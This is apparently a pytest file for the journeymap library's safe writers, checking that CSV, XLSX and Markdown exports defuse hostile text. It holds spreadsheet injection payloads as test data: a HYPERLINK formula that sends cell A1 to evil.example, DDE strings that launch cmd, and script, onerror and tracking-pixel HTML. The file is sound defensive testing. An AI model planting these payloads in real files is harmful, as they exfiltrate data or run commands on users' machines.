"""The safe writers: hostile text stays inert in every CSV, XLSX and Markdown file journeymap writes.

Each attack of issue 12 is reproduced first on the raw library (pandas, openpyxl, a plain f-string), to
show that it is real, then on the writer, which must defuse it.
"""

from __future__ import annotations

import html
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from markdown_it import MarkdownIt
from openpyxl import Workbook, load_workbook

from journeymap.io import check
from journeymap.io.catalog import DEFAULT_TEMPLATE, template_path
from journeymap.io.writers import (
    append_row,
    csv_text,
    markdown_table,
    markdown_text,
    neutralise,
    open_csv,
    put,
    save_workbook,
    write_csv,
    write_markdown,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "-2+3+cmd|' /C notepad'!'A1'", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TITLE = "Evil\n\n<script>alert(1)</script>\r\n| a | b |\n|---|---|\n<img src=x onerror=alert(1)>"


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


# -- CSV -------------------------------------------------------------------------------------------------
def test_pandas_alone_writes_the_formulas_unchanged() -> None:
    text = pd.DataFrame({"owner": HOSTILE}).to_csv(index=False)
    assert DDE in text.splitlines()  # the attack is real: a spreadsheet would run this field


@pytest.mark.parametrize("attack", HOSTILE)
def test_every_formula_start_is_neutralised_with_a_quote(attack: str) -> None:
    written = "'" + attack.replace("\r", "\n")  # a carriage return inside a field is written as a line feed
    assert neutralise(attack) == written
    back = pd.read_csv(io.StringIO(csv_text(pd.DataFrame({"owner": [attack]}))), keep_default_na=False)
    assert back["owner"].tolist() == [written]


def test_harmless_text_and_numbers_stay_as_they_are(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": ["Calls the line", "a=b", "", None], "impact": [-0.25, 1e-12, 3.0, float("nan")],
                          "rank": [1, 2, 3, 4], "flag": [True, False, True, False]})
    path = write_csv(tmp_path / "t.csv", frame, float_format="%.10g")
    back = pd.read_csv(path)
    assert back["name"].tolist()[:2] == ["Calls the line", "a=b"]
    assert back["impact"].tolist()[:3] == [-0.25, 1e-12, 3.0]  # negative numbers are numbers, not formulas
    assert back["rank"].dtype.kind == "i" and back["flag"].dtype == bool
    assert path.read_text(encoding="utf-8").splitlines()[1] == "Calls the line,-0.25,1,True"


def test_headers_categories_and_the_index_are_neutralised_too() -> None:
    frame = pd.DataFrame({"=cmd": pd.Categorical(["+a", "b", "+a"]), "x": [1, 2, 3]},
                         index=pd.Index(["@id", "ok", "-x"], name="touchpoint"))
    lines = csv_text(frame, index=True).splitlines()
    assert lines == ["touchpoint,'=cmd,x", "'@id,'+a,1", "ok,b,2", "'-x,'+a,3"]


def test_a_stream_writes_chunks_under_one_header_and_appears_only_when_done(tmp_path: Path) -> None:
    target = tmp_path / "events.csv"
    with open_csv(target) as out:
        out.write(pd.DataFrame({"case": ["C1"], "resource": [DDE]}))
        assert not target.exists()
        out.write(pd.DataFrame({"case": ["C2"], "resource": ["Care"]}))
    assert target.read_text().splitlines() == ["case,resource", "C1,'" + DDE, "C2,Care"]
    assert out.rows == 2
    with pytest.raises(ValueError, match="does not match"), open_csv(tmp_path / "bad.csv") as out:
        out.write(pd.DataFrame({"a": [1]}))
        out.write(pd.DataFrame({"b": [1]}))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["events.csv"]


# -- XLSX ------------------------------------------------------------------------------------------------
def test_openpyxl_alone_turns_the_name_into_a_live_formula(tmp_path: Path) -> None:
    book = Workbook()
    book.active.append([HYPERLINK])
    book.save(tmp_path / "raw.xlsx")
    assert "<f>HYPERLINK(" in sheet_xml(tmp_path / "raw.xlsx")  # the attack is real


def test_every_text_cell_is_a_string_never_a_formula(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    append_row(sheet, ["name", "impact"])
    for row, attack in enumerate([*HOSTILE, "#N/A", "=1+1"], 2):
        put(sheet, row, 1, attack)
        put(sheet, row, 2, -0.5 * row, number_format="0.0%")
    sheet["C1"] = "=SUM(B2:B9)"  # even a cell written around the writer is caught when saving
    path = save_workbook(book, tmp_path / "safe.xlsx")
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    back = load_workbook(path)["Sheet"]
    expected = [text.replace("\r", "\n") for text in [*HOSTILE, "#N/A", "=1+1"]]  # as XML reads them anyway
    assert [back.cell(r, 1).value for r in range(2, 10)] == expected
    assert all(back.cell(r, 1).data_type == "s" for r in range(2, 10))
    assert back["B2"].value == -1.0 and back["B2"].number_format == "0.0%"
    assert back["C1"].data_type == "s"


def test_control_characters_and_numbers_that_are_not_numbers(tmp_path: Path) -> None:
    book = Workbook()
    with pytest.raises(Exception, match="cannot be used in worksheets"):
        book.active.append(["bell\x07 and escape\x1b"])  # openpyxl alone refuses the whole file
    sheet = Workbook().active
    cells = append_row(sheet, ["bell\x07 and escape\x1b", float("nan"), float("inf"), "x" * 40_000])
    assert [c.value for c in cells[:3]] == ["bell and escape", None, None]
    assert len(cells[3].value) == 32_767


def test_workbook_dates_follow_source_date_epoch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    paths = []
    for name in ("a.xlsx", "b.xlsx"):
        book = Workbook()
        append_row(book.active, ["same"])
        paths.append(save_workbook(book, tmp_path / name))
    assert paths[0].read_bytes() == paths[1].read_bytes()
    with zipfile.ZipFile(paths[0]) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2023, 11, 14, 22, 13, 20)}
        core = archive.read("docProps/core.xml").decode()
    assert core.count("2023-11-14T22:13:20Z") == 2


# -- Markdown --------------------------------------------------------------------------------------------
def rendered_cells(document: str) -> list[list[str]]:
    """The text of each table row's cells as a CommonMark + tables renderer shows them."""
    page = MarkdownIt("commonmark").enable("table").render(document)
    rows = re.findall(r"<tr>(.*?)</tr>", page, re.S)
    return [[html.unescape(c) for c in re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", row, re.S)] for row in rows]


def test_a_plain_f_string_lets_the_title_inject_html_and_a_table() -> None:
    page = MarkdownIt("commonmark").enable("table").render(f"## Action plan: {TITLE}\n")
    assert "<script>" in page and "<table>" in page  # the attack is real


def test_the_title_stays_one_heading_of_plain_text() -> None:
    heading = f"## {markdown_text('Action plan: ' + TITLE)}\n"
    page = MarkdownIt("commonmark").enable("table").render(heading)
    assert page.count("<h2>") == 1 and "<table>" not in page and "<script" not in page and "<img" not in page
    shown = html.unescape(re.sub(r"</?h2>", "", page)).strip()
    assert shown == ("Action plan: Evil <script>alert(1)</script> | a | b | |---|---| "
                     "<img src=x onerror=alert(1)>")


CELLS = {
    "x \\| y": "x \\| y",  # a backslash and a bar, in one cell (was escaped to \\| and split the cell)
    "line\rbreak": "line break",
    "crlf\r\nbreak": "crlf break",
    "<img src=x onerror=alert(1)>": "<img src=x onerror=alert(1)>",
    "[Click me](http://evil.example)": "[Click me](http://evil.example)",
    "![pixel](http://evil.example/t.png)": "![pixel](http://evil.example/t.png)",
    "*bold* _it_ `code` ~~gone~~": "*bold* _it_ `code` ~~gone~~",
    "&lt;b&gt; &#60;": "&lt;b&gt; &#60;",
    "R&D | QA": "R&D | QA",
    "Order #": "Order #",
    "\u202eevil\u202c": "evil",
}


def test_every_cell_renders_exactly_as_written() -> None:
    table = markdown_table(["text", "next"], [[cell, "z"] for cell in CELLS])
    rows = rendered_cells(table)
    assert rows[0] == ["text", "next"]
    assert [row for row in rows[1:]] == [[shown, "z"] for shown in CELLS.values()]
    assert "<img" not in MarkdownIt("commonmark").enable("table").render(table)


def test_text_that_starts_a_line_cannot_make_a_block() -> None:
    for text in ("# heading", "- item", "+ item", "1. first", "2) second", "=== rule", "> quote", "---"):
        page = MarkdownIt("commonmark").render(markdown_text(text, starts_line=True) + "\n")
        assert page.startswith("<p>") and html.unescape(page[3:-5]) == text, text


def test_markdown_is_written_atomically_with_a_final_line_break(tmp_path: Path) -> None:
    path = write_markdown(tmp_path / "plan.md", "## Plan")
    assert path.read_text(encoding="utf-8") == "## Plan\n"
    assert [p.name for p in tmp_path.iterdir()] == ["plan.md"]


# -- every export goes through the writers ---------------------------------------------------------------
def test_the_event_log_csv_neutralises_hostile_touchpoint_names_and_owners(tmp_path: Path) -> None:
    from experiment_journeys import call_centre

    from journeymap.simulation import simulate

    journey = call_centre()
    journey = journey.update_touchpoint("call", name=HYPERLINK, owner=DDE)
    result = simulate(journey, customers=30, replications=1, seed=3, events=True)
    raw = pd.read_csv(io.StringIO(result.events.to_csv(index=False)))
    assert HYPERLINK in set(raw["concept:name"])  # pandas alone: a field a spreadsheet runs
    path = result.save_events(tmp_path / "events.csv")
    back = pd.read_csv(path)
    calls = back[back["touchpoint"] == "call"]
    assert set(calls["concept:name"]) == {"'" + HYPERLINK} and set(calls["org:resource"]) == {"'" + DDE}
    assert back["time"].dtype == float


def test_the_event_log_takes_csv_or_parquet_only(tmp_path: Path) -> None:
    from experiment_journeys import call_centre

    from journeymap.simulation import simulate

    result = simulate(call_centre(), customers=10, replications=1, seed=3, events=True)
    with pytest.raises(ValueError, match=r"an event log is written as \.csv or \.parquet \(got '.*events\.yaml'\)"):
        result.save_events(tmp_path / "events.yaml")
    assert list(tmp_path.iterdir()) == []


def test_the_demo_analysis_table_goes_through_the_csv_writer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import journeymap.demo as demo

    written: list[tuple[Path, pd.DataFrame, bool]] = []

    def spy(path: Path, frame: pd.DataFrame, *, index: bool = False, **_: object) -> Path:
        written.append((Path(path), frame, index))
        return Path(path)

    monkeypatch.setattr(demo, "write_csv", spy)
    monkeypatch.setattr(demo, "demo_plan", lambda journey, out_dir: [])
    monkeypatch.setattr("journeymap.render.export_views", lambda *a, **k: [])
    demo.run_demo(tmp_path)
    assert [(p.name, i) for p, _, i in written] == [("analysis.csv", True)]
    journey = check(template_path(DEFAULT_TEMPLATE, "en")).journey
    assert list(written[0][1].index) == list(journey.touchpoint_ids)  # the touchpoint ids go in too
